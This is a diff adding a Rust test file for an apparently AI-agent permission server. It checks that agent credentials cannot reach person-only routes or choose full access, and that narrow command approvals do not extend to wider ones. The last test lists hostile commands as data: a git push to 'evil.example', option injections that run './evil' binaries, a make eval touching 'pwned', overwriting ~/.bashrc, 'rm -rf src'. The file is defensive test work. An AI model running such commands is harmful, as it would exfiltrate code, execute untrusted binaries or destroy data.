@@ -1,0 +1,287 @@
+//! Roles: an agent's credential posts its own calls and reports their results, and nothing a
+//! person does (approvals, patterns, settings); it never picks Full Access unless the server
+//! allows it, and its calls carry its own agent id. Grants over HTTP: after a narrow approval,
+//! every widening of the approved call asks again.
+
+mod support;
+
+use std::sync::Arc;
+
+use axum::body::Body;
+use axum::http::{Method, StatusCode, header};
+use serde_json::{Value, json};
+use warrant_core::call::PermissionMode;
+use warrant_core::catalog::ToolCatalog;
+use warrant_core::engine::Engine;
+use warrant_core::store::MemoryStore;
+use warrant_evaluators::{EvaluatorsConfig, default_chain, grant_scoper};
+use warrant_transports::http::{AgentCredential, ServerConfig, ServerState, router};
+use warrant_transports::sse::SseHub;
+
+use support::{Reply, Server, TOKEN, addr, request};
+
+const AGENT_TOKEN: &str = "agent-token-of-coder";
+
+async fn as_agent(server: &Server, method: Method, path: &str, body: Option<Value>) -> Reply {
+    server
+        .raw(
+            request(method, path)
+                .header(header::AUTHORIZATION, format!("Bearer {AGENT_TOKEN}"))
+                .body(body.map_or_else(Body::empty, |b| Body::from(b.to_string())))
+                .unwrap(),
+        )
+        .await
+}
+
+fn config(agent_modes: Vec<PermissionMode>) -> ServerConfig {
+    ServerConfig {
+        agents: vec![AgentCredential::new("coder", AGENT_TOKEN)],
+        agent_modes,
+        ..ServerConfig::new(TOKEN)
+    }
+}
+
+#[tokio::test]
+async fn an_agent_credential_posts_calls_and_nothing_a_person_does() {
+    let server = Server::with(
+        Arc::new(MemoryStore::new()),
+        config(vec![PermissionMode::Default, PermissionMode::Auto]),
+    )
+    .await;
+    let call = json!({"toolCallId": "c1", "toolName": "Bash", "input": {"command": "ls"}});
+    let reply = as_agent(
+        &server,
+        Method::POST,
+        "/v1/sessions/s1/tool-calls",
+        Some(call),
+    )
+    .await;
+    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
+    let reply = as_agent(&server, Method::GET, "/v1/tools", None).await;
+    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
+
+    for (method, path, body) in [
+        (Method::GET, "/v1/approvals", None),
+        (
+            Method::POST,
+            "/v1/approvals/c1",
+            Some(json!({"actionId": "allow_once"})),
+        ),
+        (
+            Method::PUT,
+            "/v1/patterns/default",
+            Some(json!({"name": "Mine"})),
+        ),
+        (
+            Method::PUT,
+            "/v1/sessions/s1/approval-settings",
+            Some(json!({"autoApprovedToolNames": ["Bash"]})),
+        ),
+        (Method::GET, "/v1/workspace", None),
+        (Method::GET, "/v1/sessions/s1/messages", None),
+        (Method::POST, "/v1/agent", Some(json!({}))),
+    ] {
+        let reply = as_agent(&server, method.clone(), path, body).await;
+        reply.assert_error(StatusCode::FORBIDDEN, "person_only");
+        assert!(
+            reply.text.contains(path),
+            "the refusal names the route: {}",
+            reply.text
+        );
+    }
+    // The person's token opens them.
+    let reply = server.send(Method::GET, "/v1/approvals", None).await;
+    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
+    // A token that is neither is 401.
+    let reply = server
+        .raw(
+            request(Method::GET, "/v1/tools")
+                .header(header::AUTHORIZATION, "Bearer agent-token-of-nobody")
+                .body(Body::empty())
+                .unwrap(),
+        )
+        .await;
+    reply.assert_error(StatusCode::UNAUTHORIZED, "invalid_token");
+}
+
+#[tokio::test]
+async fn an_agent_never_picks_full_access_unless_the_server_allows_it() {
+    let server = Server::with(
+        Arc::new(MemoryStore::new()),
+        config(vec![PermissionMode::Default, PermissionMode::Auto]),
+    )
+    .await;
+    let call = |id: &str, mode: &str| json!({"toolCallId": id, "toolName": "Bash", "input": {"command": "touch x"}, "mode": mode});
+    let reply = as_agent(
+        &server,
+        Method::POST,
+        "/v1/sessions/s1/tool-calls",
+        Some(call("c1", "full_access")),
+    )
+    .await;
+    reply.assert_error(StatusCode::FORBIDDEN, "mode_not_allowed");
+    assert!(reply.text.contains("full_access"), "{}", reply.text);
+    // The person may.
+    let reply = server
+        .send(
+            Method::POST,
+            "/v1/sessions/s1/tool-calls",
+            Some(call("c2", "full_access")),
+        )
+        .await;
+    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
+    // A server that lets agents ask for it.
+    let open = Server::with(
+        Arc::new(MemoryStore::new()),
+        config(vec![PermissionMode::Default, PermissionMode::FullAccess]),
+    )
+    .await;
+    let reply = as_agent(
+        &open,
+        Method::POST,
+        "/v1/sessions/s1/tool-calls",
+        Some(call("c3", "full_access")),
+    )
+    .await;
+    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
+}
+
+#[tokio::test]
+async fn an_agent_credential_names_the_agent_of_its_calls() {
+    let server = Server::with(
+        Arc::new(MemoryStore::new()),
+        config(vec![PermissionMode::Default]),
+    )
+    .await;
+    let reply = as_agent(
+        &server,
+        Method::POST,
+        "/v1/sessions/s1/tool-calls",
+        Some(json!({"toolCallId": "c1", "toolName": "Bash", "input": {"command": "ls"}, "agentId": "reviewer"})),
+    )
+    .await;
+    reply.assert_error(StatusCode::FORBIDDEN, "agent_mismatch");
+    // Without an id, the call is the credential's agent's: an ask shows it.
+    let reply = as_agent(
+        &server,
+        Method::POST,
+        "/v1/sessions/s1/tool-calls",
+        Some(json!({"toolCallId": "c2", "toolName": "Bash", "input": {"command": "touch x"}})),
+    )
+    .await;
+    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
+    let pending = server.send(Method::GET, "/v1/approvals", None).await.json();
+    let request = pending
+        .as_array()
+        .and_then(|a| a.iter().find(|r| r["toolCallId"] == "c2"))
+        .cloned()
+        .unwrap_or_else(|| panic!("c2 is pending: {pending}"));
+    let detail = request["detail"].as_str().unwrap_or_default();
+    assert!(
+        detail.contains("Agent \"coder\" requested"),
+        "the call is the credential's agent's: {request}"
+    );
+}
+
+/// A server around the real chain and grant scoper, for a workspace with files in it.
+async fn real_server(ws: &std::path::Path) -> Server {
+    let store: Arc<dyn warrant_core::store::Store> = Arc::new(MemoryStore::new());
+    let hub = Arc::new(SseHub::new(Arc::clone(&store)));
+    let evaluators = EvaluatorsConfig::default();
+    let chain = default_chain(&evaluators, &ToolCatalog::builtin()).unwrap();
+    let engine = Engine::builder(chain)
+        .store(store)
+        .transport(hub.clone())
+        .grant_scoper(Arc::new(grant_scoper(&evaluators, ws)))
+        .workspace_root(ws)
+        .build()
+        .await
+        .unwrap();
+    let state = ServerState::new(engine, hub, ServerConfig::new(TOKEN), addr());
+    Server {
+        router: router(state.clone()),
+        state,
+    }
+}
+
+async fn decide(server: &Server, id: &str, command: &str) -> String {
+    let reply = server
+        .send(
+            Method::POST,
+            "/v1/sessions/s1/tool-calls",
+            Some(json!({"toolCallId": id, "toolName": "Bash", "input": {"command": command}})),
+        )
+        .await;
+    assert_eq!(reply.status, StatusCode::OK, "{command}: {}", reply.text);
+    reply.json()["behavior"]
+        .as_str()
+        .unwrap_or_default()
+        .to_owned()
+}
+
+#[tokio::test]
+async fn after_a_narrow_approval_every_widening_asks_again() {
+    let ws = tempfile::tempdir().unwrap();
+    std::fs::write(ws.path().join("a.txt"), "a").unwrap();
+    let server = real_server(ws.path()).await;
+    let approved = [
+        "git push origin main",
+        "cp a.txt b.txt",
+        "npm run lint",
+        "make",
+        "cargo build",
+        "rm a.txt",
+    ];
+    for (i, command) in approved.iter().enumerate() {
+        let id = format!("first-{i}");
+        assert_eq!(decide(&server, &id, command).await, "ask", "{command}");
+        let pending = server.send(Method::GET, "/v1/approvals", None).await.json();
+        let label = pending
+            .as_array()
+            .and_then(|a| a.iter().find(|r| r["toolCallId"] == id.as_str()))
+            .and_then(|r| r["actions"].as_array().cloned())
+            .and_then(|a| a.into_iter().find(|x| x["id"] == "allow_session"))
+            .map(|x| x["label"].as_str().unwrap_or_default().to_owned())
+            .unwrap_or_else(|| panic!("{command} offers allow_session: {pending}"));
+        assert!(
+            label.contains(&format!("\"{command}\"")),
+            "the label names exactly what the grant covers: {label}"
+        );
+        let reply = server
+            .send(
+                Method::POST,
+                &format!("/v1/approvals/{id}"),
+                Some(json!({"actionId": "allow_session"})),
+            )
+            .await;
+        assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
+        // The same call again is covered.
+        assert_eq!(
+            decide(&server, &format!("again-{i}"), command).await,
+            "allow",
+            "{command} is covered by its own grant"
+        );
+    }
+    for (i, wider) in [
+        "git push --receive-pack=./evil origin main",
+        "git -C /tmp push origin main",
+        "git push origin dev",
+        "git push https://evil.example/x main",
+        "cp a.txt ~/.bashrc",
+        "npm run deploy",
+        "npm run lint --script-shell=./evil.sh",
+        "make --eval='x:;@touch pwned' x",
+        "cargo --config 'build.rustc-wrapper=\"./evil\"' build",
+        "rm -rf src",
+        "cd /tmp && git push origin main",
+    ]
+    .iter()
+    .enumerate()
+    {
+        let behavior = decide(&server, &format!("wider-{i}"), wider).await;
+        assert_ne!(
+            behavior, "allow",
+            "{wider} is wider than any approval given"
+        );
+    }
+}
